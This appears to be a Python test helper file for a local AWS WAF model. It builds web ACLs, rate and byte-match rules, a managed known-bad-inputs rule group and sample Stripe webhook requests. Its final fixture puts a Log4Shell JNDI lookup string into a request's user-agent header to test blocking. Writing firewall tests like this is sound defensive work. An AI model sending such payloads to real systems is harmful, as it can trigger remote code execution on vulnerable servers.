"""Web ACLs and requests for tests of the firewall's model."""

from collections.abc import Iterable, Mapping
from typing import Any

from webhookctl.local.waf.acl import Lag, WebAcl
from webhookctl.local.waf.request import WafRequest

RATE = {"RateBasedStatement": {"Limit": 600, "EvaluationWindowSec": 60, "AggregateKeyType": "IP"}}
ARN = "arn:aws:wafv2:us-east-1:000000000000:regional/webacl/acl/1"
OFFICE = "arn:aws:wafv2:us-east-1:000000000000:regional/ipset/office/1"


def ip_sets(arn: str) -> Iterable[str]:
    """Return the ranges of the one IP set."""
    assert arn == OFFICE
    return ["127.0.9.0/24"]


def rule(name: str, priority: int, statement: Mapping[str, Any], **members: Any) -> dict[str, Any]:
    """Return a rule that blocks, unless its members say otherwise."""
    action: dict[str, Any] = {} if "OverrideAction" in members else {"Action": {"Block": {}}}
    visibility = {"MetricName": f"{name}Metric"}
    return (
        {"Name": name, "Priority": priority, "Statement": statement, "VisibilityConfig": visibility} | action | members
    )


def acl(*rules: Mapping[str, Any], lag: Lag | None = None, **members: Any) -> WebAcl:
    """Return a compiled web ACL named `acl`, whose checks of rates fall on 5, 15, 25, ... seconds."""
    document = {"ARN": ARN, "Name": "acl", "DefaultAction": {"Allow": {}}, "Rules": list(rules), **members}
    return WebAcl(document, ip_sets=ip_sets, lag=lag or Lag(), now=0, phase=lambda: 0.5)


def request(**fields: Any) -> WafRequest:
    """Return a webhook's request."""
    basis: dict[str, Any] = {
        "method": "POST",
        "path": "/prod/webhook/stripe",
        "query": "",
        "headers": {"host": "example.test", "content-type": "application/json"},
        "client_ip": "127.0.0.1",
        "body": b'{"id": 1}',
    }
    return WafRequest(**(basis | fields))


def byte_match(text: str, constraint: str, field: Mapping[str, Any], *steps: str) -> dict[str, Any]:
    """Return a ByteMatchStatement as an SDK words it."""
    transformations = [{"Priority": n, "Type": step} for n, step in enumerate(steps or ("NONE",))]
    return {
        "ByteMatchStatement": {
            "SearchString": text.encode(),
            "PositionalConstraint": constraint,
            "FieldToMatch": field,
            "TextTransformations": transformations,
        }
    }


def managed(**members: Any) -> dict[str, Any]:
    """Return a rule of the group of known bad inputs."""
    group = {"VendorName": "AWS", "Name": "AWSManagedRulesKnownBadInputsRuleSet"}
    override = members.pop("OverrideAction", {"None": {}})
    return rule("bad", 0, {"ManagedRuleGroupStatement": group | members}, OverrideAction=override)


LOG4J = request(headers={"user-agent": "${jndi:ldap://x}"})
